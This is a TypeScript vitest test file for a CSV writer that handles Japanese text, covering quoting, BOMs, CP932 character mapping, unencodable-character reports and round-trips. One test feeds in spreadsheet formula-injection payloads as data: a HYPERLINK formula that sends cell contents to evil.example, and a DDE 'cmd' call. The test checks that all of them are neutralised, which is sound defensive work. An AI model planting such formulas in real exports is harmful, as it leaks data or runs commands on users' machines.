import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { readCsv } from "./csv-read.js";
import { writeCsv } from "./csv-write.js";

const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

describe("writeCsv", () => {
  it("writes UTF-8 with a BOM and CRLF by default, quoting cells with commas, quotes and newlines", () => {
    const { bytes, unencodable } = writeCsv(["課題番号", "内容"], [["A(1)", '一行目\n二行目, "引用"']], { encoding: "utf-8-bom" });
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text(bytes.subarray(3))).toBe('課題番号,内容\r\nA(1),"一行目\n二行目, ""引用"""\r\n');
    expect(unencodable).toEqual([]);
  });

  it("writes plain UTF-8 with LF and tabs when asked", () => {
    const { bytes } = writeCsv(["a", "b"], [[1, "x"]], { encoding: "utf-8", delimiter: "\t", lineEnding: "\n" });
    expect(text(bytes)).toBe("a\tb\n1\tx\n");
  });

  it("neutralises formula injection in every string cell, header included", () => {
    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1"];
    const { bytes } = writeCsv(
      ["=cmd|' /C calc'!A0"],
      attacks.map((a) => [a]),
      { encoding: "utf-8" },
    );
    const read = readCsv(bytes);
    expect(read.header).toEqual(["'=cmd|' /C calc'!A0"]);
    expect(read.rows.map((r) => r[0])).toEqual(attacks.map((a) => `'${a}`));
  });

  it("leaves typed numbers (including negatives), booleans and empty values alone", () => {
    const { bytes } = writeCsv(["n", "neg", "b", "empty", "text"], [[1234, -1, true, null, "普通の文字列"]], {
      encoding: "utf-8",
      lineEnding: "\n",
    });
    expect(text(bytes)).toBe("n,neg,b,empty,text\n1234,-1,TRUE,,普通の文字列\n");
  });

  it("maps 〜 and − (and ‖ ¢ £ ¬ —) to their CP932 forms instead of writing ?", () => {
    const { bytes, unencodable } = writeCsv(["期間", "差"], [["4月〜6月", "−5‖¢£¬—"]], { encoding: "cp932" });
    expect(unencodable).toEqual([]);
    const decoded = iconv.decode(Buffer.from(bytes), "cp932");
    expect(decoded).toBe("期間,差\r\n4月～6月,－5∥￠￡￢―\r\n");
    expect(decoded).not.toContain("?");
  });

  it("keeps CP932 extensions such as ①, ㈱ and 髙", () => {
    const { bytes, unencodable } = writeCsv(["名称"], [["①㈱髙島屋"]], { encoding: "cp932" });
    expect(unencodable).toEqual([]);
    expect(iconv.decode(Buffer.from(bytes), "cp932")).toBe("名称\r\n①㈱髙島屋\r\n");
  });

  it("reports every character CP932 cannot hold, with its row and column", () => {
    const { unencodable } = writeCsv(
      ["氏名", "元号"],
      [
        ["山田", "令和"],
        ["𠮷田", "㋿元年"],
        ["𠮷野𠮷", "平成"],
      ],
      { encoding: "cp932" },
    );
    expect(unencodable).toEqual([
      { row: 3, column: 1, char: "𠮷" },
      { row: 3, column: 2, char: "㋿" },
      { row: 4, column: 1, char: "𠮷" },
      { row: 4, column: 1, char: "𠮷" },
    ]);
  });

  it("round-trips through readCsv for all three encodings", () => {
    for (const encoding of ["utf-8-bom", "utf-8", "cp932"] as const) {
      const { bytes } = writeCsv(["課題名", "件数"], [["国際関連施策\n（情報共有）", 6]], { encoding });
      const read = readCsv(bytes);
      expect(read.rows).toEqual([["国際関連施策\n（情報共有）", "6"]]);
      expect(read.encoding).toBe(encoding);
    }
  });
});

describe("writeCsv → readCsv (property)", () => {
  it("gives back every non-blank row, with strings neutralised and nothing else changed", async () => {
    const fc = await import("fast-check");
    const { cellToSafeText } = await import("./formula-guard.js");
    const cell = fc.oneof(
      fc.string({ unit: "grapheme" }),
      fc.constantFrom("=1+1", "-1", "+81", "@x", "\t=x", '"', "a,b", "\r\n", "〜", "日本語"),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 20 }), fc.constantFrom("utf-8", "utf-8-bom"), (rows, encoding) => {
        const { bytes } = writeCsv(["a", "b"], rows, { encoding });
        const expected = rows.map((r) => r.map(cellToSafeText)).filter((r) => r.some((c) => c.trim() !== ""));
        expect(readCsv(bytes).rows).toEqual(expected);
      }),
      { numRuns: 200 },
    );
  });
});
